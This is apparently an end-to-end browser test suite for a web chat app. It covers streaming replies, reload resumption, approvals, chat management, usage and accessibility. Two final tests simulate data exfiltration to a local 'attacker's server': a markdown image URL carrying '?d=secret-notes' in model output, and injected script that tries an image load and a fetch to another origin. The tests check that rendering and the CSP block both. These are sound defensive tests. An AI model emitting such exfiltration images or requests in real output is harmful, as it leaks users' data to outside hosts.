"""The web chat in a real browser (Debian's headless Chromium) against a `pa dev` stack the tests start.

The offline demo model answers (no provider key): it says it will check the time, calls the
`current_time` tool, then streams its reply word by word (slowed down here so a reload can land in
the middle of it). Screenshots go to test-artifacts/.
"""

from __future__ import annotations

import http.server
import json
import re
import threading
import time
from collections.abc import Iterator
from typing import Any

import httpx
import psycopg
import pytest

from tests.e2e.web_chat_stack import (
    DevStack,
    describe_violations,
    screenshot,
    serious_violations,
)
from tests.e2e.web_chat_steps import (
    new_chat,
    normalise,
    page_token,
    reply,
    reply_texts,
    send,
    sign_in,
)

pytestmark = pytest.mark.timeout(240)

# The demo reply is ~45 words: at 150 ms a word it streams for ~7 s.
DEMO_DELAY_MS = "150"


@pytest.fixture(scope="module")
def web_env() -> dict[str, str]:
    return {"PA_DEMO_DELAY_MS": DEMO_DELAY_MS}


def stored_reply(web: DevStack, token: str, chat_id: str) -> str:
    with web.api(token) as api:
        items = api.get(f"/api/v1/chats/{chat_id}/messages").json()["items"]
    texts = [i["text"] for i in items if i["role"] == "assistant" and "You said" in (i.get("text") or "")]
    assert len(texts) == 1, items
    return normalise(texts[0])


def wait_for_run_end(web: DevStack, token: str, chat_id: str, timeout: float = 60) -> dict[str, Any]:
    """The chat's latest run once it ended: its event stream is followed to its end (the relay closes it after the
    run's last event), then the run is read."""
    with web.api(token) as api:
        items = api.get(f"/api/v1/chats/{chat_id}/messages").json()["items"]
        run_id = next((i["run_id"] for i in reversed(items) if i.get("run_id")), None)
        assert run_id, items
        with api.stream("GET", f"/api/v1/runs/{run_id}/events", timeout=timeout) as events:
            assert events.status_code == 200
            for _ in events.iter_lines():
                pass
        run: dict[str, Any] = api.get(f"/api/v1/runs/{run_id}").json()
    assert run["status"] in ("succeeded", "failed", "cancelled"), run
    return run


def test_sign_in_create_chat_and_see_the_reply_stream_token_by_token(page: Any, web: DevStack) -> None:
    from playwright.sync_api import expect

    sign_in(page)
    new_chat(page)
    expect(page.get_by_test_id("model-picker")).to_contain_text("(offline demo)")
    send(page, "What time is it?")
    expect(page.get_by_test_id("user-message")).to_have_text(re.compile("What time is it?"))
    expect(page.get_by_test_id("run-mode")).to_have_text("Right away")

    # Token by token: the answer is seen growing, several times, before it is complete.
    answer = reply(page)
    expect(answer).to_have_attribute("data-streaming", "true")
    seen: list[str] = []
    while answer.get_attribute("data-streaming") == "true":
        text = answer.inner_text()
        if not seen or text != seen[-1]:
            seen.append(text)
        page.wait_for_timeout(40)
    assert len(seen) >= 4, f"the reply arrived in {len(seen)} visible steps, not token by token"
    assert all(len(a) <= len(b) for a, b in zip(seen, seen[1:], strict=False))
    expect(answer).to_contain_text("offline demo model")
    screenshot(page, "streamed-reply")

    # The tool call is a collapsed card with its arguments and result.
    card = page.get_by_test_id("tool-call").filter(has_text="current_time")
    expect(card).to_have_count(1)
    expect(card.get_by_text("What it found")).to_be_hidden()
    card.locator("summary").click()
    expect(card.get_by_text("What it found")).to_be_visible()
    expect(card.get_by_label("Tool result")).to_have_text(re.compile(r"\d{4}-\d\d-\d\dT"))
    screenshot(page, "tool-call-open")


def test_reload_mid_stream_resumes_from_the_last_event_without_repeating_text(page: Any, web: DevStack) -> None:
    from playwright.sync_api import expect

    sign_in(page)
    chat_id = new_chat(page)
    event_requests: list[dict[str, str | None]] = []
    page.on(
        "request",
        lambda r: (
            event_requests.append({"url": r.url, "last_event_id": r.headers.get("last-event-id")})
            if "/events" in r.url
            else None
        ),
    )
    send(page, "Tell me the time, slowly")
    answer = reply(page)
    expect(answer).to_have_attribute("data-streaming", "true")
    expect(answer).to_contain_text("The time is")  # well into the reply, far from its end
    before = reply_texts(page)[0]
    assert "real model" not in before, "the reply ended before the reload: slow the demo model down"

    page.reload()
    resumed_from = len(event_requests)
    # The restored view shows at least what was there before, then keeps growing without repeats.
    snapshots: list[str] = []
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        texts = reply_texts(page)
        assert len(texts) <= 1, f"the reply is shown {len(texts)} times"
        if texts:
            snapshots.append(texts[0])
            if "real model" in snapshots[-1] and reply(page).get_attribute("data-streaming") != "true":
                break
        page.wait_for_timeout(50)
    screenshot(page, "resumed-after-reload")

    token = page_token(page)
    stored = stored_reply(web, token, chat_id)
    assert snapshots, "the reply did not come back after the reload"
    assert snapshots[0].startswith(before[: len(before) - 20]), "the reload lost text that was already shown"
    for shown in snapshots:
        assert stored.startswith(shown), f"shown text is not a prefix of the reply (repeated or garbled):\n{shown}"
    assert snapshots[-1] == stored
    assert page.get_by_test_id("user-message").count() == 1

    after_reload = event_requests[resumed_from:]
    assert after_reload, "no event stream was opened after the reload"
    assert after_reload[0]["last_event_id"], f"the stream was replayed from the start: {after_reload}"
    assert re.fullmatch(r"\d+-\d+(\.\d+)?", str(after_reload[0]["last_event_id"]))  # an event inside a batch: .<index>
    left = page.evaluate("Object.keys(sessionStorage).filter(k => k.startsWith('pa.run.'))")
    assert left == [], "the finished run was not cleared from sessionStorage"


def test_stop_cancels_the_run(page: Any, web: DevStack) -> None:
    from playwright.sync_api import expect

    sign_in(page)
    chat_id = new_chat(page)
    send(page, "Say something long")
    expect(reply(page)).to_have_attribute("data-streaming", "true")
    page.get_by_role("button", name="Stop", exact=True).click()
    expect(page.get_by_test_id("run-notice")).to_contain_text("stopped")
    expect(page.get_by_role("button", name="Stop", exact=True)).to_be_hidden()
    assert wait_for_run_end(web, page_token(page), chat_id)["status"] == "cancelled"
    screenshot(page, "stopped")


def test_a_run_started_elsewhere_appears_live(page: Any, web: DevStack) -> None:
    from playwright.sync_api import expect

    with page.expect_response(lambda r: "/api/v1/feed" in r.url):  # the feed is listening
        sign_in(page)
    chat_id = new_chat(page)
    with web.api(page_token(page)) as api:  # another tab, a script, a webhook: not this page
        started = api.post(f"/api/v1/chats/{chat_id}/runs", json={"message": "Started from another tab"})
        assert started.status_code == 202, started.text
    expect(page.get_by_test_id("user-message")).to_have_text(re.compile("Started from another tab"))
    expect(reply(page)).to_have_attribute("data-streaming", "true")
    expect(reply(page)).to_contain_text("offline demo model")
    expect(reply(page)).to_have_count(1)
    screenshot(page, "run-from-elsewhere")


def test_approve_a_pending_tool_call(page: Any, web: DevStack) -> None:
    from playwright.sync_api import expect

    sign_in(page)
    new_chat(page)
    send(page, "Please send the weekly report to the team", mode="durable")
    expect(page.get_by_test_id("run-mode")).to_have_text("In the background")
    card = page.get_by_test_id("approval-card")
    try:
        expect(card).to_be_visible(timeout=30_000)
    except AssertionError:
        screenshot(page, "approval-missing")
        pytest.fail(
            "no approval was requested: the backend's offline demo model does not (yet) call a tool that needs"
            " approval in durable mode (issues 3/4), so there is nothing to approve in the browser"
        )
    expect(card).to_contain_text("waiting for you")
    screenshot(page, "approval-in-chat")

    chat_url = page.url
    page.get_by_role("link", name=re.compile("^Approvals")).click()
    inbox_card = page.get_by_test_id("approval-card")
    expect(inbox_card.first).to_be_visible()
    screenshot(page, "approvals-inbox")
    page.goto(chat_url)

    card = page.get_by_test_id("approval-card")
    card.get_by_label("Reason (optional)").fill("Looks right to me")
    card.get_by_role("button", name="Approve").click()
    expect(card).to_contain_text("approved")
    expect(page.get_by_role("button", name="Stop", exact=True)).to_be_hidden(timeout=60_000)
    expect(page.get_by_test_id("run-error")).to_have_count(0)
    screenshot(page, "approved")
    page.goto("/approvals")
    expect(page.get_by_test_id("no-approvals")).to_be_visible()


def seed_messages(web: DevStack, chat_id: str, count: int, long_answer_at: int) -> None:
    """`count` stored turns, "Seeded message 001" oldest; turn `long_answer_at` is an answer too long to send whole."""
    rows = []
    for n in range(1, count + 1):
        if n == long_answer_at:
            kind, part = "response", {"part_kind": "text", "content": "A very long answer. " * 15_000}
        else:
            kind, part = "request", {"part_kind": "user-prompt", "content": f"Seeded message {n:03}"}
        rows.append((kind, json.dumps({"kind": kind, "parts": [part]}), chat_id))
    with psycopg.connect(web.admin_url(), autocommit=True) as conn, conn.cursor() as cur:
        cur.executemany(  # one branch: each message continues from the one before (0021)
            "INSERT INTO messages (org_id, chat_id, kind, message, parent_id) SELECT org_id, id, %s, %s,"
            " (SELECT max(m.id) FROM messages m WHERE m.chat_id = chats.id) FROM chats WHERE id = %s",
            rows,
        )


def test_load_earlier_messages_pages_back_through_a_long_chat(page: Any, web: DevStack) -> None:
    from playwright.sync_api import expect

    sign_in(page)
    chat_id = new_chat(page)
    seed_messages(web, chat_id, 250, long_answer_at=2)  # the API's pages hold 200 items
    page.reload()

    transcript = page.get_by_test_id("transcript")

    def message(n: int) -> Any:
        return transcript.get_by_text(f"Seeded message {n:03}", exact=True)

    expect(message(250)).to_be_visible()  # the newest page, scrolled to its end
    expect(message(51)).to_be_attached()
    expect(message(50)).to_have_count(0)
    earlier = page.get_by_role("button", name="Load earlier messages")
    expect(earlier).to_have_count(1)
    found = serious_violations(page)
    assert not found, describe_violations(found)

    # From the keyboard, at the top of the transcript: the older page goes in front, the reader's place is kept.
    transcript.evaluate("el => { el.scrollTop = 0; }")
    before = message(51).bounding_box()
    earlier.focus()
    with page.expect_response(lambda r: "/messages?cursor=" in r.url):
        page.keyboard.press("Enter")
    expect(message(1)).to_be_attached()
    expect(earlier).to_have_count(0)  # the chat's start: nothing more to load
    expect(transcript).to_be_focused()
    after = message(51).bounding_box()
    assert before and after and abs(after["y"] - before["y"]) < 2, (before, after)
    expect(transcript.get_by_test_id("user-message")).to_have_count(249)
    expect(message(250)).to_have_count(1)

    # The answer too long to send whole says it was cut.
    long_answer = transcript.get_by_test_id("assistant-message")
    expect(long_answer).to_have_count(1)
    expect(long_answer.get_by_test_id("truncated")).to_have_text("(truncated)")
    expect(transcript.get_by_test_id("truncated")).to_have_count(1)
    found = serious_violations(page)
    assert not found, describe_violations(found)
    screenshot(page, "earlier-messages")


def test_chat_list_search_rename_and_delete(page: Any, web: DevStack) -> None:
    from playwright.sync_api import expect

    sign_in(page)
    chat_id = new_chat(page)
    items = page.get_by_test_id("chat-item")
    mine = items.filter(has=page.locator(f"a[href='/chats/{chat_id}']"))
    mine.get_by_role("button", name=re.compile("^Rename")).click()
    dialog = page.get_by_role("dialog", name="Rename chat")
    dialog.get_by_label("Title").fill("Quarterly numbers")
    dialog.get_by_role("button", name="Save").click()
    expect(mine).to_contain_text("Quarterly numbers")
    expect(page.get_by_test_id("chat-title")).to_have_text("New chat")  # the open pane keeps its own copy

    page.get_by_role("searchbox", name="Search chats").fill("quarterly")
    expect(items).to_have_count(1)
    expect(items.first).to_contain_text("Quarterly numbers")
    page.get_by_role("searchbox", name="Search chats").fill("no chat has this title")
    expect(items).to_have_count(0)
    page.get_by_role("searchbox", name="Search chats").fill("")
    expect(mine).to_have_count(1)

    mine.get_by_role("button", name=re.compile("^Delete")).click()
    page.get_by_role("dialog", name="Delete chat?").get_by_role("button", name="Delete").click()
    expect(mine).to_have_count(0)
    page.wait_for_url(re.compile(r"/$"))
    with web.api(page_token(page)) as api:
        assert api.get(f"/api/v1/chats/{chat_id}").status_code == 404


def test_usage_page_shows_spend_by_day_and_by_model(page: Any, web: DevStack) -> None:
    from playwright.sync_api import expect

    sign_in(page)
    chat_id = new_chat(page)
    with web.api(page_token(page)) as api:
        assert api.post(f"/api/v1/chats/{chat_id}/runs", json={"message": "usage"}).status_code == 202
    wait_for_run_end(web, page_token(page), chat_id)
    page.get_by_role("link", name="Usage", exact=True).click()  # a chat titled "Usage" links too
    expect(page.get_by_role("heading", name="Usage", exact=True)).to_be_visible()
    expect(page.get_by_role("img", name="Spend by day in US dollars")).to_be_visible()
    table = page.get_by_test_id("usage-by-model")
    expect(table).to_contain_text("demo")
    expect(page.get_by_text("Spend of everyone in your organisation")).to_be_visible()  # admin: the org's
    page.get_by_label("Chart").select_option("tokens")
    expect(page.get_by_role("img", name="Tokens by day")).to_be_visible()
    screenshot(page, "usage")


def test_main_pages_have_no_serious_accessibility_violations(page: Any, web: DevStack) -> None:
    from playwright.sync_api import expect

    page.goto("/login")
    expect(page.get_by_role("heading", name="Dev login")).to_be_visible()
    found = {"login": serious_violations(page)}

    sign_in(page)
    chat_id = new_chat(page)
    send(page, "Accessibility check: what time is it?")  # the demo checks the time: a tool card to open
    expect(reply(page)).to_contain_text("real model")
    page.get_by_test_id("tool-call").first.locator("summary").click()
    found["chat"] = serious_violations(page)

    loaded = {
        "/approvals": page.get_by_test_id("no-approvals").or_(page.get_by_test_id("approval-card").first),
        "/usage": page.get_by_test_id("usage-by-model"),
        "/settings": page.get_by_role("option", name=re.compile("offline demo")).first,
    }
    for path, ready in loaded.items():
        page.goto(path)
        expect(ready).to_be_attached()
        found[path.strip("/")] = serious_violations(page)
    screenshot(page, "settings")
    problems = {name: describe_violations(v) for name, v in found.items() if v}
    assert not problems, "\n".join(f"[{name}]\n{text}" for name, text in problems.items())
    assert chat_id


def test_web_chat_is_served_with_an_spa_fallback_that_never_shadows_the_api(web: DevStack) -> None:
    index = httpx.get(f"{web.url}/chats/not-a-real-id", timeout=10)
    assert index.status_code == 200 and '<div id="app">' in index.text
    assert index.headers["cache-control"] == "no-cache"
    api_404 = httpx.get(f"{web.url}/api/v1/nothing-here", timeout=10)
    assert api_404.status_code == 404 and api_404.json()["code"] == "not_found"
    assert httpx.get(f"{web.url}/readyz", timeout=10).json()["status"] == "ready"
    assert httpx.get(f"{web.url}/api/v1/config", timeout=10).json()["dev_login"] is True
    assert httpx.get(f"{web.url}/assets/missing.js", timeout=10).status_code == 404


def test_settings_keep_provider_keys_write_only_and_masked(page: Any, web: DevStack) -> None:
    from playwright.sync_api import expect

    secret = "sk-e2e-never-shown-0123456789wxyz"
    sign_in(page)
    page.get_by_role("link", name="Settings").click()
    expect(page.get_by_role("heading", name="Provider keys")).to_be_visible()
    token = page_token(page)
    try:
        page.get_by_label("Provider", exact=True).select_option("openai")
        page.get_by_label("Label", exact=True).fill("e2e key")
        page.get_by_label("Key", exact=True).fill(secret)
        page.get_by_role("button", name="Save key").click()
        row = page.get_by_test_id("keys").get_by_role("row").filter(has_text="e2e key")
        expect(row).to_have_count(1)
        expect(page.get_by_label("Key", exact=True)).to_have_value("")  # the secret does not stay in the form
        assert secret not in page.content(), "the key is shown back"
        hint = row.get_by_test_id("key-hint").inner_text()
        assert hint and secret not in hint
        screenshot(page, "settings-key-saved")
        row.get_by_role("button", name="Delete key e2e key").click()
        expect(row).to_have_count(0)

        page.get_by_role("combobox", name="Your default model").select_option("offline:demo")
        page.get_by_role("button", name="Save", exact=True).first.click()
        expect(page.get_by_role("status").filter(has_text="Saved")).to_be_visible()
        page.get_by_role("link", name="Chats").click()
        new_chat(page)
        expect(page.get_by_test_id("model-picker")).to_have_value("offline:demo")
    finally:
        with web.api(token) as api:  # never leave a key behind for the other tests' "auto" model
            for key in api.get("/api/v1/keys").json().get("items", []):
                api.delete(f"/api/v1/keys/{key['id']}")


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Another origin that answers every GET with an image and records it (an attacker's server)."""

    hits: list[str] = []
    PNG = bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fe"
        "a7d6a4c50000000049454e44ae426082"
    )

    def do_GET(self) -> None:  # noqa: N802 (the http.server API)
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(self.PNG)))
        self.end_headers()
        self.wfile.write(self.PNG)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """A server on another origin and the paths it was asked for."""
    hits: list[str] = []
    handler = type("Recorder", (_Recorder,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def test_a_remote_image_in_model_output_is_a_link_and_is_never_fetched(
    page: Any, web: DevStack, elsewhere: tuple[str, list[str]]
) -> None:
    from playwright.sync_api import expect

    origin, hits = elsewhere
    sign_in(page)
    new_chat(page)
    # The demo model repeats the message: model output carrying an exfiltration image.
    send(page, f"![quarterly notes]({origin}/leak.png?d=secret-notes)")
    expect(reply(page)).to_have_attribute("data-streaming", "false")
    body = reply(page).get_by_test_id("message-body")
    link = body.get_by_role("link", name="Image: quarterly notes")
    expect(link).to_have_attribute("href", f"{origin}/leak.png?d=secret-notes")
    expect(page.locator("[data-testid=message-body] img")).to_have_count(0)
    page.reload()  # the stored transcript renders through the same path
    expect(reply(page).get_by_role("link", name="Image: quarterly notes")).to_be_visible()
    expect(page.locator("[data-testid=message-body] img")).to_have_count(0)
    assert hits == [], "the page fetched the model's image"


def test_the_web_chat_is_served_with_a_csp_that_blocks_remote_loads(
    browser: Any, web: DevStack, elsewhere: tuple[str, list[str]]
) -> None:
    from playwright.sync_api import expect

    index = httpx.get(f"{web.url}/", timeout=10)
    csp = dict(d.strip().split(" ", 1) for d in index.headers["content-security-policy"].split(";"))
    assert csp["img-src"] == "'self'" and csp["script-src"] == "'self'"
    # Besides its own origin, the page may reach only the local S3 endpoint (presigned uploads go there).
    connect = csp["connect-src"].split()
    assert connect[0] == "'self'" and [s for s in connect[1:] if not re.fullmatch(r"http://127\.0\.0\.1:\d+", s)] == []
    assert len(connect) <= 2
    assert index.headers["x-dns-prefetch-control"] == "off"
    asset = next(a for a in re.findall(r'src="(/assets/[^"]+)"', index.text))
    assert "content-security-policy" in httpx.get(f"{web.url}{asset}", timeout=10).headers

    origin, hits = elsewhere
    context = browser.new_context(base_url=web.url)  # not the `page` fixture: this test provokes violations
    try:
        page = context.new_page()
        sign_in(page)
        expect(page.get_by_test_id("who")).to_contain_text("acme")
        # Whatever slipped past the sanitiser: the browser itself refuses to load it or send anything.
        outcome = page.evaluate(
            """async (origin) => {
                const img = new Image();
                const image = new Promise((resolve) => {
                    img.onload = () => resolve("loaded");
                    img.onerror = () => resolve("blocked");
                });
                img.src = origin + "/pixel.png?d=secret";
                document.body.append(img);
                const fetched = await fetch(origin + "/fetch?d=secret", { mode: "no-cors" }).then(
                    () => "sent",
                    () => "blocked",
                );
                return { image: await image, fetched };
            }""",
            origin,
        )
    finally:
        context.close()
    assert outcome == {"image": "blocked", "fetched": "blocked"}
    assert hits == [], "a request reached another origin"
